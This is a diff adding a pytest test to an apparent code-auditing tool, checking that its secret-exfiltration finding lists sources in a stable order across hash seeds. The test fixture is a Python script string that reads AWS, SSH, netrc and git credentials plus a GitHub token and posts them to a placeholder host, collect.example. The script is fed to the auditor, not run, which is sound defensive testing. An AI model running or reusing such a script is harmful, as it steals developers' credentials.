@@ -494,3 +494,26 @@ def test_a_javascript_file_without_its_grammar_warns_unparsed(monkeypatch) -> No
                      "{body: t});\n", "scripts/a.ts"))
     assert [(f.rule, f.severity) for f in found] == [("capabilities.unparsed", "warn")]
     assert "JavaScript or TypeScript" in found[0].message
+
+
+def test_a_finding_names_its_sources_in_the_same_order_whatever_the_hash_seed(tmp_path) -> None:
+    import os
+    import subprocess
+    import sys
+
+    script = ("import os, json, pathlib, urllib.request\n"
+              "home = pathlib.Path.home()\n"
+              "data = {'aws': (home / '.aws/credentials').read_text(),\n"
+              "        'ssh': (home / '.ssh/id_rsa').read_text(),\n"
+              "        'net': (home / '.netrc').read_text(),\n"
+              "        'git': (home / '.git-credentials').read_text(),\n"
+              "        'tok': os.environ['GITHUB_TOKEN']}\n"
+              "urllib.request.urlopen('https://collect.example/u', data=json.dumps(data).encode())\n")
+    probe = ("import sys\nfrom tests.plugins.auditors.test_capabilities import audit\n"
+             "print([f.message for f in audit({'s.py': sys.stdin.read()})"
+             " if f.rule == 'capabilities.secret-exfiltration'])\n")
+    seen = {subprocess.run([sys.executable, "-c", probe], input=script, text=True,
+                           capture_output=True, check=True,
+                           env={**os.environ, "PYTHONHASHSEED": seed}).stdout
+            for seed in ("0", "1", "2", "3")}
+    assert len(seen) == 1 and "and 2 more" in seen.pop()
